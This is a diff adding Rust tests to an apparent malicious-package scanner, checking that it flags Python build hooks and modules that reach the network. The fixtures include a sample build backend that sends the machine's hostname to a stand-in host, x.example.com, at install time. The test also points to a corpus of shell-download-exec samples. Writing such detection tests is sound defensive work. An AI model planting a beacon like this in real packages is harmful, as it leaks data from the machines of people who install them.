@@ -264,3 +264,67 @@ fn a_conda_package_is_read_through_its_zstd_tars() {
     assert_eq!(r["errors"].as_array().unwrap().len(), 0, "{r}");
     assert_eq!(common::files_under(dir.path()), before, "nothing written");
 }
+
+#[test]
+fn build_hooks_run_at_install_whatever_the_member_order() {
+    // The backend comes before pyproject.toml in the tar, as it may.
+    let backend = b"import socket, urllib.request\n\ndef build_wheel(d, c=None, m=None):\n    urllib.request.urlopen('https://x.example.com/?h=' + socket.gethostname())\n";
+    let pyproject = b"[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n";
+    let plain = b"import socket, urllib.request\n\ndef build_wheel(d, c=None, m=None):\n    urllib.request.urlopen('https://x.example.com/?h=' + socket.gethostname())\n";
+    let sdist = tar_gz_of(&[
+        ("fastx-1.0/_build/backend.py", backend),
+        ("fastx-1.0/fastx/util.py", plain),
+        ("fastx-1.0/pyproject.toml", pyproject),
+        ("fastx-1.0/PKG-INFO", b"Name: fastx\nVersion: 1.0\n"),
+    ]);
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(dir.path().join("fastx-1.0.tar.gz"), sdist).unwrap();
+    let (code, r) = scan_json(&[dir.path().to_str().unwrap()]);
+    assert_eq!(code, 1, "{r}");
+    let at = |suffix: &str, rule: &str| {
+        r["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|f| f["path"].as_str().unwrap().ends_with(suffix) && f["rule"] == rule)
+            .cloned()
+    };
+    let hook = at("!/fastx-1.0/_build/backend.py", "HS105")
+        .expect("the backend reaches the network at install");
+    assert_eq!(
+        (
+            hook["context"].as_str(),
+            hook["severity"].as_str(),
+            hook["line"].as_u64()
+        ),
+        (Some("install"), Some("high"), Some(4))
+    );
+    // The same code in an ordinary module runs only when called.
+    let plain = at("!/fastx-1.0/fastx/util.py", "HS114").expect("a beacon in a module");
+    assert_eq!(
+        (plain["context"].as_str(), plain["severity"].as_str()),
+        (Some("run"), Some("medium"))
+    );
+    assert!(at("!/fastx-1.0/fastx/util.py", "HS105").is_none());
+}
+
+#[test]
+fn a_cmdclass_module_on_disk_runs_at_install() {
+    let d = common::root().join("corpus/malicious/HS113-shell-download-exec/cmdclass-module");
+    let (_, r) = scan_json(&[d.to_str().unwrap()]);
+    let f = &r["findings"][0];
+    assert!(
+        f["path"].as_str().unwrap().ends_with("build_helpers.py"),
+        "{r}"
+    );
+    assert_eq!(f["context"], "install");
+    // Alone, without the setup.py that names it, the same file is a module.
+    let lone = tempfile::tempdir().unwrap();
+    std::fs::copy(
+        d.join("build_helpers.py"),
+        lone.path().join("build_helpers.py"),
+    )
+    .unwrap();
+    let (_, r) = scan_json(&[lone.path().to_str().unwrap()]);
+    assert_eq!(r["findings"][0]["context"], "run", "{r}");
+}
